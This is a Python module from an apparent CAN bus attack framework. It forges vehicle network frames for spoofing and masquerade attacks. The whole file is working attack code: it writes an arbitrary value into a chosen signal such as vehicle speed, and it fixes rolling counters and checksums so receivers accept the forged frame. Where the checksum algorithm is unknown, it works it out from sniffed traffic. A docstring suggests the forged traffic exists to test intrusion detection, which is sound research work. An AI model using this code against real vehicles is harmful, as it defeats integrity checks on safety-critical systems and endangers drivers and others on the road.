"""Forged payloads for the spoofing and masquerade attacks.

:class:`PayloadForger` turns a template payload (the real sender's latest frame, or fixed bytes)
into a forged one: one DBC signal set to a chosen physical value, every other bit kept, and the
message's rolling counter and checksum made plausible so that a receiver checking them alone does
not notice.

Counters and checksums come from :class:`can_dbc.integrity.IntegritySpec`. Where the DBC declares
the checksum algorithm (``ChecksumAlgo``, as the sample vehicle does) it is used as is. Where the
DBC only names a checksum signal (opendbc files: ``CHECKSUM``) the algorithm is *inferred from the
real frames*, as an attacker who watched the bus would: the first algorithm of
:data:`can_dbc.integrity.ALGORITHMS` whose value differs from the stored checksum by the same
constant in every observed frame — added for ``sum8`` (Toyota's checksum is ``sum8`` plus the
frame length), XORed for the others (a different final XOR). Until enough frames agree, or when
none does, the checksum field is left as the template had it.
"""

from __future__ import annotations

import math
import random
import struct
from typing import Any

from agent.errors import UsageError
from can_dbc.integrity import IntegritySpec, SignalField

__all__ = ["PayloadForger", "default_signal"]

#: Observed frames that must agree on a checksum model before it is trusted.
_MIN_AGREEING_FRAMES = 4
#: Observed frames kept for the inference (enough to rule out chance agreement).
_MAX_SAMPLES = 32
# (algorithm, how the stored value differs from the computed one) in the order they are tried.
_CANDIDATES: tuple[tuple[str, str], ...] = (
    ("sum8", "+"),
    ("xor8", "^"),
    ("crc8_sae_j1850", "^"),
    ("crc8_h2f", "^"),
)


def _is_integrity_signal(spec: IntegritySpec | None, signal: Any) -> bool:
    return spec is not None and signal in (spec.counter, spec.checksum)


def default_signal(message: Any) -> Any:
    """The signal a forgery sets when none is named: the widest plain signal of *message*.

    Counters, checksums and multiplexers are never chosen; the widest signal is the message's main
    quantity in practice (``ESC_VehSpd``, ``SPEED``). Raises :class:`UsageError` if there is none.
    """
    try:
        spec = IntegritySpec.for_message(message)
    except ValueError:
        spec = None
    best: Any = None
    for sig in message.signals:
        if _is_integrity_signal(spec, sig) or sig.is_multiplexer or sig.multiplexer_ids:
            continue
        if best is None or int(sig.length) > int(best.length):
            best = sig
    if best is None:
        raise UsageError(f"message {message.name} has no signal that can be forged")
    return best


def _raw_range(signal: Any) -> tuple[int, int]:
    n = int(signal.length)
    if signal.is_signed:
        return -(1 << (n - 1)), (1 << (n - 1)) - 1
    return 0, (1 << n) - 1


def _raw_of(signal: Any, value: float) -> int:
    """*value* as the signal's raw bits (clamped to what the bits hold, not to the DBC range)."""
    if signal.is_float:
        fmt = "<f" if int(signal.length) == 32 else "<d"
        return int.from_bytes(struct.pack(fmt, value), "little")
    scale = float(signal.scale) or 1.0
    lo, hi = _raw_range(signal)
    raw = round((value - float(signal.offset)) / scale)
    raw = min(max(raw, lo), hi)
    return raw & ((1 << int(signal.length)) - 1)


def _physical_of(signal: Any, raw: int) -> float:
    """The physical value the raw bits written by :func:`_raw_of` decode to."""
    if signal.is_float:
        fmt = "<f" if int(signal.length) == 32 else "<d"
        size = 4 if int(signal.length) == 32 else 8
        return float(struct.unpack(fmt, raw.to_bytes(size, "little"))[0])
    n = int(signal.length)
    if signal.is_signed and raw & (1 << (n - 1)):
        raw -= 1 << n
    return float(raw * float(signal.scale) + float(signal.offset))


def _default_value(signal: Any) -> float:
    """The signal's DBC maximum, or the largest value its bits hold."""
    if signal.maximum is not None and math.isfinite(float(signal.maximum)):
        return float(signal.maximum)
    return _physical_of(signal, _raw_range(signal)[1] & ((1 << int(signal.length)) - 1))


class _InferredChecksum:
    """Learns a checksum model from real payloads (see the module docstring)."""

    def __init__(self, message: Any, checksum: Any) -> None:
        self._field = SignalField.of(checksum, int(message.length))
        self._mask = (1 << int(checksum.length)) - 1
        self._specs: list[tuple[str, str, IntegritySpec]] = []
        for algorithm, op in _CANDIDATES:
            spec = IntegritySpec.for_message(message, default_algorithm=algorithm)
            if spec is not None and spec.algorithm == algorithm:
                self._specs.append((algorithm, op, spec))
        self._samples: list[bytes] = []
        self.model: tuple[str, str, int, IntegritySpec] | None = None

    def learn(self, payload: bytes) -> None:
        if self.model is None and len(self._samples) < _MAX_SAMPLES:
            self._samples.append(payload)

    def settle(self) -> None:
        """Pick a model from the samples so far (once); later samples are not needed."""
        if self.model is not None or len(self._samples) < _MIN_AGREEING_FRAMES:
            return
        for algorithm, op, spec in self._specs:
            deltas = {self._delta(op, spec, data) for data in self._samples}
            if len(deltas) == 1:
                self.model = (algorithm, op, deltas.pop(), spec)
                return

    def _delta(self, op: str, spec: IntegritySpec, data: bytes) -> int:
        stored = self._field.read(data)
        computed = spec.compute_checksum(data)
        return (stored - computed) & self._mask if op == "+" else stored ^ computed

    def apply(self, data: bytearray) -> None:
        if self.model is None:
            return
        _, op, delta, spec = self.model
        computed = spec.compute_checksum(data)
        value = (computed + delta) & self._mask if op == "+" else computed ^ delta
        self._field.write(data, value)

    def describe(self) -> str:
        if self.model is None:
            return "unknown (left as sent)"
        algorithm, op, delta, _ = self.model
        if delta == 0:
            return f"{algorithm} (inferred)"
        return f"{algorithm}{op}0x{delta:02X} (inferred)"


class PayloadForger:
    """Forges the payloads of one message (see the module docstring).

    * *message*: the cantools ``Message`` of the frame id, or ``None`` when no DBC knows it.
    * *signal* / *value*: the signal to set and its physical value. With a *message*, a missing
      signal is :func:`default_signal`, a missing value the signal's maximum. Values outside the
      DBC range are written as they are (clamped only to what the bits hold): out-of-range values
      are part of what an intrusion detector should see.
    * *data*: fixed template bytes instead of the real sender's payload.
    * *rng*: used once, for a random payload when there is neither a message nor *data*.

    Feed real payloads to :meth:`learn` (counter and checksum inference), then :meth:`forge`.
    """

    def __init__(
        self,
        frame_id: int,
        *,
        message: Any | None = None,
        signal: str | None = None,
        value: float | None = None,
        data: bytes | None = None,
        rng: random.Random | None = None,
    ) -> None:
        self.frame_id = frame_id
        self.message = message
        self.data = data
        self._rng = rng or random.Random(0)
        self._random_payload: bytes | None = None
        self._signal: Any = None
        self._field: SignalField | None = None
        self._raw = 0
        self.spec: IntegritySpec | None = None
        self._inferred: _InferredChecksum | None = None
        self.last_counter: int | None = None
        if message is None:
            if signal is not None or value is not None:
                raise UsageError(
                    f"id 0x{frame_id:03X}: no DBC message has this id, so signal and value "
                    "cannot be forged (give --dbc FILE, or data=HEX)"
                )
            return
        try:
            self.spec = IntegritySpec.for_message(message)
        except ValueError as e:
            raise UsageError(str(e)) from e
        if signal is not None:
            try:
                self._signal = message.get_signal_by_name(signal)
            except KeyError:
                names = ", ".join(s.name for s in message.signals[:8])
                raise UsageError(
                    f"message {message.name} (0x{frame_id:03X}) has no signal {signal!r} "
                    f"(signals: {names}{', …' if len(message.signals) > 8 else ''})"
                ) from None
        elif data is None or value is not None:
            self._signal = default_signal(message)
        if self._signal is not None:
            if self._signal.multiplexer_ids:
                raise UsageError(
                    f"signal {self._signal.name} is multiplexed: forging it is not supported"
                )
            try:
                self._field = SignalField.of(self._signal, int(message.length))
            except ValueError as e:
                raise UsageError(str(e)) from e
            wanted = _default_value(self._signal) if value is None else float(value)
            self._raw = _raw_of(self._signal, wanted)
        spec = self.spec
        if spec is not None and spec.checksum is not None and spec.algorithm is None:
            self._inferred = _InferredChecksum(message, spec.checksum)

    @property
    def signal_name(self) -> str | None:
        """The forged signal's name (None when only bytes are forged)."""
        return None if self._signal is None else str(self._signal.name)

    @property
    def forged_value(self) -> float | None:
        """The physical value the forged frames carry (after clamping to the signal's bits)."""
        return None if self._signal is None else _physical_of(self._signal, self._raw)

    def learn(self, payload: bytes | bytearray) -> None:
        """Observe one real payload: its counter, and a sample for checksum inference."""
        spec = self.spec
        if spec is None:
            return
        data = bytes(payload)
        if spec.counter is not None:
            self.last_counter = spec.read_counter(data)
        if self._inferred is not None:
            self._inferred.learn(data)

    def template_length(self, observed: int | None) -> int:
        """Payload length of forged frames: the real frames', else the DBC's, else 8."""
        if self.data is not None:
            return len(self.data)
        if observed is not None:
            return observed
        return int(self.message.length) if self.message is not None else 8

    def forge(self, template: bytes | bytearray | None, counter: int | None) -> bytearray:
        """A forged payload from *template* (the real sender's, ignored with fixed *data*) with
        *counter* written where the message has a counter (``None``: left as in the template)."""
        if self.data is not None:
            out = bytearray(self.data)
        elif self.message is None:
            if self._random_payload is None:
                n = len(template) if template is not None else 8
                self._random_payload = self._rng.randbytes(n)
            return bytearray(self._random_payload)
        else:
            out = bytearray(template) if template is not None else bytearray()
        if self.message is not None:
            length = int(self.message.length)
            if len(out) < length:
                out.extend(bytes(length - len(out)))
        if self._field is not None:
            self._field.write(out, self._raw)
        spec = self.spec
        if spec is not None:
            if spec.counter is not None and counter is not None:
                SignalField.of(spec.counter, spec.length).write(out, counter % spec.counter_modulus)
            if spec.algorithm is not None:
                spec.apply_checksum(out)
            elif self._inferred is not None:
                self._inferred.settle()
                self._inferred.apply(out)
        return out

    def describe(self) -> dict[str, Any]:
        """What is forged, for the attack's description."""
        spec = self.spec
        checksum: str | None = None
        if spec is not None and spec.checksum is not None:
            if spec.algorithm is not None:
                checksum = f"{spec.algorithm} ({spec.checksum.name})"
            elif self._inferred is not None:
                checksum = f"{self._inferred.describe()} ({spec.checksum.name})"
        return {
            "message": None if self.message is None else str(self.message.name),
            "signal": self.signal_name,
            "value": self.forged_value,
            "data": None if self.data is None else self.data.hex().upper(),
            "counter": None if spec is None or spec.counter is None else str(spec.counter.name),
            "checksum": checksum,
        }
